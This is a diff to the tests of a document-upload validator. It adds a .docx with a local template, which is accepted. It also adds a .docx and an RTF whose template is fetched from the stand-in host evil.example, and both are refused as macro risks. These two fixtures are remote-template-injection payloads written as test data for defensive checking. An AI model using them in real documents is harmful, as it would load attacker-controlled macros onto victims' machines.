@@ -51,10 +51,27 @@ const ACCEPTED: readonly (readonly [string, Buffer, string])[] = [
   ['lettre.doc', DOC, 'application/msword'],
   ['budget.xls', compound('Workbook'), 'application/vnd.ms-excel'],
   ['lettre.docx', office('docx'), `${MACHINE}.wordprocessingml.document`],
+  [
+    'modele.docx',
+    withTemplate('file:///C:\\Users\\a\\Normal.dotm'),
+    `${MACHINE}.wordprocessingml.document`,
+  ],
   ['budget.xlsx', office('xlsx'), `${MACHINE}.spreadsheetml.sheet`],
   ['plan.pptx', office('pptx'), `${MACHINE}.presentationml.presentation`],
   ['lettre.pages', PAGES, 'application/vnd.apple.pages'],
 ];
+
+/** A letter that was made from a template. */
+function withTemplate(target: string): Buffer {
+  const type = 'http://schemas.example/attachedTemplate';
+  return writeZip([
+    ...officeParts('docx'),
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships><Relationship Id="r1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+    },
+  ]);
+}
 
 const REFUSED: readonly (readonly [string, string, Buffer, string])[] = [
   ['nothing at all', 'vide.pdf', Buffer.alloc(0), 'empty'],
@@ -108,6 +125,18 @@ const REFUSED: readonly (readonly [string, string, Buffer, string])[] = [
     'active',
   ],
   ['rich text that was cut off', 'lettre.rtf', RTF.subarray(0, 12), 'unreadable'],
+  [
+    'a letter whose template is fetched',
+    'offre.docx',
+    withTemplate('https://evil.example/a.dotm'),
+    'macros',
+  ],
+  [
+    'rich text whose template is fetched',
+    'lettre.rtf',
+    Buffer.from('{\\rtf1{\\*\\template https://evil.example/a.dot}}'),
+    'macros',
+  ],
   ['an old letter with macros', 'lettre.doc', compound('WordDocument', 'Macros', 'VBA'), 'macros'],
   ['an old sheet with macros', 'budget.xls', compound('Workbook', '_VBA_PROJECT_CUR'), 'macros'],
   ['an old letter that was cut off', 'lettre.doc', DOC.subarray(0, 300), 'unreadable'],
